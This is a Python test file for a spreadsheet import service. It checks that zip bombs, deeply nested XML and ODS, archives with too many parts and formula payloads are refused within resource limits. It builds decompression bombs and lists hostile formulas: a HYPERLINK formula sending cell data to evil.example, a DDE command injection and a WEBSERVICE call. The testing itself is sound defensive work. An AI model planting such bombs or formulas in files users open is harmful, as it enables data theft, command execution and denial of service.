"""Files that were made to do harm: bombs, deep XML, formulas, gigabytes of blanks. Refused, and within the limits."""

import io
import resource
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest

from app.core.errors import ServiceError
from app.interop.errors import UnreadableFileError
from app.interop.sheets.child.limits import CPU_SECONDS_MAX, MEMORY_BYTES_MAX, PARTS_MAX
from app.interop.sheets.files import CHILD_SECONDS_MAX, read_book, read_file, read_upload
from tests.interop.old_workbooks import ods
from tests.sheets import workbook

GIGABYTE = 1 << 30
SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"


def blanks(count: int) -> bytes:
    """So many blanks, deflated: one megabyte again and again, as no archiver would need to have them in memory."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    megabyte = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return megabyte * (count >> 20) + end


def with_part(name: str, deflated: bytes, says: int) -> bytes:
    """A good workbook in which one part holds this, and says that it unpacks to so many bytes."""
    parts = []
    with zipfile.ZipFile(io.BytesIO(workbook({"s": [["物资", "数量"], ["护目镜", 2]]}))) as old:
        for part in old.namelist():
            if part != name:
                body = old.read(part)
                packer = zlib.compressobj(9, zlib.DEFLATED, -15)
                parts.append((part, packer.compress(body) + packer.flush(), len(body), zlib.crc32(body)))
    parts.append((name, deflated, says, 0))
    archive, index = b"", b""
    for part, body, size, checksum in parts:
        common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, checksum, len(body), size, len(part), 0)
        index += b"PK\x01\x02\x14\x00" + common + struct.pack("<HHHII", 0, 0, 0, 0, len(archive)) + part.encode()
        archive += b"PK\x03\x04" + common + part.encode() + body
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(parts), len(parts), len(index), len(archive), 0)
    return archive + index + end


def refused_within_limits(content: bytes) -> str:
    """The code of the refusal; this process and its children stay within their seconds and their memory."""
    began = time.monotonic()
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    with pytest.raises(UnreadableFileError) as refusal:
        read_book(content, "bomb.xlsx", where="file")
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert time.monotonic() - began < CHILD_SECONDS_MAX + 5
    assert after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime < CPU_SECONDS_MAX + 2
    # The largest child so far may have been another test's; and a child begins as large as this process is.
    own = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert after.ru_maxrss * 1024 < max(MEMORY_BYTES_MAX, (max(before.ru_maxrss, own) + 1024) * 1024)
    (fault,) = refusal.value.faults
    return fault.code


@pytest.mark.parametrize("part", [SHEET, STRINGS])
@pytest.mark.parametrize("says", [2 * GIGABYTE, 150 << 20, 100], ids=["honest", "within-the-limit", "tiny"])
def test_two_gigabytes_of_blanks_are_refused_whatever_they_say_of_themselves(part: str, says: int) -> None:
    bomb = with_part(part, blanks(2 * GIGABYTE), says)
    assert len(bomb) < 4 << 20
    assert refused_within_limits(bomb) in ("too_large_unpacked", "not_a_sheet")


def test_two_gigabytes_of_blanks_as_text_are_refused_without_being_read(tmp_path: Path) -> None:
    path = tmp_path / "blanks.csv"
    with path.open("wb") as file:
        file.truncate(2 * GIGABYTE)
    began = time.monotonic()
    with pytest.raises(UnreadableFileError) as refusal:
        read_file(path)
    assert [(fault.code, fault.where) for fault in refusal.value.faults] == [("too_large", "blanks.csv")]
    assert time.monotonic() - began < 1


def test_an_archive_of_very_many_parts_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for n in range(PARTS_MAX + 1):
            archive.writestr(f"xl/worksheets/sheet{n}.xml", "<worksheet/>")
    assert refused_within_limits(buffer.getvalue()) == "too_large_unpacked"


def deflated(body: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(body) + packer.flush()


@pytest.mark.parametrize("part", [SHEET, STRINGS, "xl/workbook.xml", "xl/styles.xml"])
def test_deep_xml_ends_nothing_but_its_own_process(part: str) -> None:
    body = b"<a>" * 2_000_000
    content = with_part(part, deflated(body), len(body))
    with pytest.raises(UnreadableFileError):
        read_book(content, "deep.xlsx", where="file")


def test_a_table_in_a_table_in_a_table_is_refused() -> None:
    deep = "<table:table-row><table:table-cell>" * 200_000
    with pytest.raises(UnreadableFileError):
        read_book(ods({"s": deep}), "deep.ods", where="file")


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=cmd|"/c calc"!A0',
    '=WEBSERVICE("http://evil.example")',
    "=1+1",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_never_computed_only_its_kept_value_is_read(formula: str) -> None:
    rows: list[list[object]] = [["物资", "数量"], ["护目镜", None]]
    content = workbook({"s": rows}, formulas={(1, 1): (formula, 7)})
    (sheet,) = read_book(content, "", where="file").sheets
    assert sheet.at(1, 1) == 7
    written: list[list[object]] = [["物资", "数量"], [formula, 1]]
    (sheet,) = read_book(workbook({"s": written}), "", where="file").sheets
    assert sheet.at(1, 0) == formula, "text that looks like a formula stays text"


def test_an_upload_is_cut_before_it_is_unpacked() -> None:
    with pytest.raises(ServiceError) as refusal:
        read_upload(with_part(SHEET, blanks(2 * GIGABYTE), 100), "bomb.xlsx")
    assert [fault.code for fault in refusal.value.faults] == ["too_large"]
